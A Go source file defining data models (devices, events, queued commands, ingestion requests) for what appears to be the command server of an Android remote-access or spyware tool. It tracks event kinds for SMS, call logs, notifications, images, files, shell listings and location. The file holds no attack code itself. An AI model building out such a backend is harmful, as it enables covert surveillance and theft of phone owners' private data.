package models

import (
	"errors"
	"time"
)

// Sentinel errors surfaced through the service layer. Handlers map these
// to client-visible HTTP failures; none of them is fatal to the process.
var (
	// ErrDeviceNotFound indicates a selection or lookup against an
	// unknown device id.
	ErrDeviceNotFound = errors.New("device not found")
	// ErrNoDeviceSelected indicates a command or query that requires an
	// active device selection.
	ErrNoDeviceSelected = errors.New("no device selected")
	// ErrMalformedInput indicates an ingestion payload missing required
	// structure.
	ErrMalformedInput = errors.New("malformed input")
)

// EventKind tags the semantic type of a record reported by an agent.
type EventKind string

const (
	EventDeviceInfo        EventKind = "DEVICE_INFO"
	EventSMSLog            EventKind = "SMS_LOG"
	EventCallLog           EventKind = "CALL_LOG"
	EventNotificationData  EventKind = "NOTIFICATION_DATA"
	EventImageData         EventKind = "IMAGE_DATA"
	EventAppList           EventKind = "APP_LIST"
	EventShellLsResult     EventKind = "SHELL_LS_RESULT"
	EventFileManagerResult EventKind = "FILE_MANAGER_RESULT"
	EventLocationSuccess   EventKind = "LOCATION_SUCCESS"
)

// Device represents the last-known state of a remote agent endpoint.
type Device struct {
	ID             string    `json:"id"`
	IP             string    `json:"ip"`
	Model          string    `json:"model"`
	Manufacturer   string    `json:"manufacturer"`
	AndroidVersion string    `json:"android_version"`
	Battery        int       `json:"battery"`
	LastSeen       time.Time `json:"last_seen"`
	Connected      bool      `json:"connected"`
}

// DeviceUpdate carries the fields of a registry upsert. Nil fields are
// left untouched on the existing record (last-write-wins per field).
type DeviceUpdate struct {
	IP             *string
	Model          *string
	Manufacturer   *string
	AndroidVersion *string
	Battery        *int
}

// Event is one record in a device's history log. Immutable once stored.
type Event struct {
	Kind      EventKind      `json:"type"`
	Payload   map[string]any `json:"payload"`
	Timestamp time.Time      `json:"timestamp"`
}

// QueuedCommand is an outbound command waiting in the dispatch queue.
type QueuedCommand struct {
	DeviceID   string    `json:"device_id"`
	Command    string    `json:"command"`
	EnqueuedAt time.Time `json:"enqueued_at"`
}

// ClientInfo identifies the network origin of an ingested event.
type ClientInfo struct {
	Address string `json:"address"`
}

// IngestRequest is the wire format agents (via the upstream relay) post
// to the ingestion endpoint.
type IngestRequest struct {
	DeviceID   string         `json:"device_id,omitempty"`
	Type       EventKind      `json:"type"`
	Payload    map[string]any `json:"payload"`
	ClientInfo ClientInfo     `json:"client_info"`
}

// CommandRequest is an operator command submission.
type CommandRequest struct {
	Command string            `json:"command"`
	Params  map[string]string `json:"params"`
}
